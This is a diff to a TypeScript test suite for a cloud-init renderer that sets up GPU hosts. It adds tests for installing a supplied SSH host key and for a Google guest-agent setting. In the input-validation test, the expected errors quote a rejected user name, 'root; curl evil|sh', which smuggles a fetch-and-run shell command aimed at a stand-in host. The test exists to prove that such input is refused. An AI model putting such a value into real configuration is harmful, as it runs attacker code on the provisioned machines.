@@ -7,19 +7,23 @@ import * as fs from "fs";
 import * as os from "os";
 import * as path from "path";
 import * as YAML from "yaml";
-import { CloudInitOptions, renderCloudInit, SETUP_SCRIPT_PATH, validateCloudInitOptions } from "../../cloud-init/render";
+import { CloudInitOptions, GCE_GUEST_AGENT_CONFIG, renderCloudInit, SETUP_SCRIPT_PATH, validateCloudInitOptions } from "../../cloud-init/render";
 import { DOCKER_LOG_ROTATION } from "../../infra/config/fixed";
 import { REBOOT_REQUIRED_MARKER, SETUP_DONE_MARKER } from "../../infra/shell/host";
 import { DOCKER_DAEMON_JSON_PATH, SSHD_DROP_IN_PATH, setupScript, sshdDropIn } from "../../infra/shell/setup";
 import { assertShellcheckClean, assertValidCloudConfig, extractShellSnippets } from "../helpers/cloudInitChecks";
 import { requireTool } from "../helpers/tools";
+import { HOST_KEY } from "../helpers/hostKeyFixture";
 
 const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3Jm0oKjZ2c3b1hXl5m0V8l6mQb0dY3aT0v8cJkF7P operator@gpu-hosts";
 const KEY2 =
     "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBHq3Jm0oKjZ2c3b1hXl5m0V8l6mQ= ci@gpu-hosts";
 
 /** What the program passes for a stack with the config's defaults (sshUser, driver branch) and the fixed log rotation. */
-const BASE: CloudInitOptions = { sshUser: "ubuntu", createUser: true, sshAuthorizedKeys: [], nvidiaDriverBranch: "570-server", dockerLog: DOCKER_LOG_ROTATION, registryMirrors: [] };
+const BASE: CloudInitOptions = {
+    sshUser: "ubuntu", createUser: true, sshAuthorizedKeys: [], nvidiaDriverBranch: "570-server", dockerLog: DOCKER_LOG_ROTATION, registryMirrors: [],
+    hostKey: HOST_KEY, gceGuestAgent: false,
+};
 
 /** One representative option set per golden file. */
 const CASES: Record<string, CloudInitOptions> = {
@@ -27,6 +31,8 @@ const CASES: Record<string, CloudInitOptions> = {
     default: { ...BASE, sshAuthorizedKeys: [KEY] },
     // Azure shape: the VM resource creates the admin user and its keys.
     azure: { ...BASE, sshUser: "azureuser", createUser: false },
+    // GCP shape: Google's guest agent is told to leave the host key alone.
+    gcp: { ...BASE, sshAuthorizedKeys: [KEY], gceGuestAgent: true },
     custom: {
         sshUser: "gpuadmin",
         createUser: true,
@@ -35,6 +41,8 @@ const CASES: Record<string, CloudInitOptions> = {
         dockerLog: { maxSize: "50m", maxFile: 5 },
         hostname: "gpu-dev-aws",
         registryMirrors: [],
+        hostKey: HOST_KEY,
+        gceGuestAgent: false,
     },
 };
 
@@ -104,6 +112,31 @@ describe("cloud-init renderer", () => {
                 assert.match(res.stdout, /^maxsessions 64$/m);
             } finally {
                 fs.rmSync(dir, { recursive: true, force: true });
+            }
+        });
+
+        it("installs the stack's host key in place of the image's and of any it would generate", function () {
+            assert.strictEqual(config.ssh_deletekeys, true);
+            assert.deepStrictEqual(config.ssh_keys, { ed25519_private: HOST_KEY.ed25519Private, ed25519_public: HOST_KEY.ed25519Public.trim() });
+            assert.strictEqual(config.ssh_genkeytypes, undefined, "ignored by cc_ssh when ssh_keys is given");
+            // The real OpenSSH reads the private key as it lands in /etc/ssh, and derives that public key.
+            const keygen = requireTool("ssh-keygen", this);
+            const dir = fs.mkdtempSync(path.join(os.tmpdir(), "gpu-hosts-hostkey-"));
+            try {
+                fs.writeFileSync(path.join(dir, "ssh_host_ed25519_key"), config.ssh_keys.ed25519_private, { mode: 0o600 });
+                const res = spawnSync(keygen, ["-y", "-f", path.join(dir, "ssh_host_ed25519_key")], { encoding: "utf8" });
+                assert.strictEqual(res.status, 0, res.stderr);
+                assert.strictEqual(res.stdout.trim(), config.ssh_keys.ed25519_public);
+            } finally {
+                fs.rmSync(dir, { recursive: true, force: true });
+            }
+        });
+
+        it("tells Google's guest agent to leave the host key alone on GCE, and only there", () => {
+            const gcp = parse(renderCloudInit(CASES.gcp));
+            assert.deepStrictEqual(gcp.write_files[0], { path: GCE_GUEST_AGENT_CONFIG, permissions: "0644", append: true, content: "[InstanceSetup]\nset_host_keys = false\n" });
+            for (const c of [CASES.default, CASES.azure, CASES.custom]) {
+                assert.ok(!parse(renderCloudInit(c)).write_files.some((f: { path: string }) => f.path === GCE_GUEST_AGENT_CONFIG));
             }
         });
 
@@ -263,7 +296,7 @@ describe("cloud-init renderer", () => {
         it("holds no defaults: every option but the hostname is required (the config and infra/config/fixed.ts resolve them)", () => {
             // A type error if any became optional again; the program passes each one.
             const required: Required<Omit<CloudInitOptions, "hostname">> = BASE;
-            assert.deepStrictEqual(Object.keys(required).sort(), ["createUser", "dockerLog", "nvidiaDriverBranch", "registryMirrors", "sshAuthorizedKeys", "sshUser"]);
+            assert.deepStrictEqual(Object.keys(required).sort(), ["createUser", "dockerLog", "gceGuestAgent", "hostKey", "nvidiaDriverBranch", "registryMirrors", "sshAuthorizedKeys", "sshUser"]);
             const source = fs.readFileSync(path.join(__dirname, "..", "..", "cloud-init", "render.ts"), "utf8");
             assert.doesNotMatch(source, /"570-server"|"ubuntu"|"10m"|DEFAULTS/, "no default of the config's written again");
         });
@@ -290,6 +323,8 @@ describe("cloud-init renderer", () => {
                 dockerLog: { maxSize: "10 MB", maxFile: 0 },
                 hostname: "bad_host.example",
                 registryMirrors: [],
+                hostKey: { ed25519Private: "not a key", ed25519Public: "ssh-rsa AAAAB3NzaC1yc2E=" },
+                gceGuestAgent: false,
             });
             assert.deepStrictEqual(problems, [
                 'cloud-init option sshUser must be a Linux user name, e.g. "ubuntu", got "root; curl evil|sh"',
@@ -297,6 +332,8 @@ describe("cloud-init renderer", () => {
                 'cloud-init option dockerLog.maxSize must be a size like "10m" (a positive integer followed by k, m or g), got "10 MB"',
                 "cloud-init option dockerLog.maxFile must be an integer from 1 to 100, got 0",
                 'cloud-init option sshAuthorizedKeys[0] must be an OpenSSH public key line (ssh-ed25519, ssh-rsa, ecdsa-sha2-nistp*, sk-ssh-ed25519@openssh.com or sk-ecdsa-sha2-nistp256@openssh.com), got "not a key"',
+                'cloud-init option hostKey.ed25519Public must be an ssh-ed25519 public key line, got "ssh-rsa AAAAB3NzaC1yc2E="',
+                'cloud-init option hostKey.ed25519Private must be an OpenSSH private key ("-----BEGIN OPENSSH PRIVATE KEY-----" ...), got something else (not shown: it is a secret)',
                 'cloud-init option hostname must be a single DNS label (letters, digits and \'-\', at most 63 characters), e.g. "gpu-dev-aws", got "bad_host.example"',
             ]);
             assert.throws(() => renderCloudInit({ ...BASE, sshUser: "x y", nvidiaDriverBranch: "1" }), (e: Error) => {
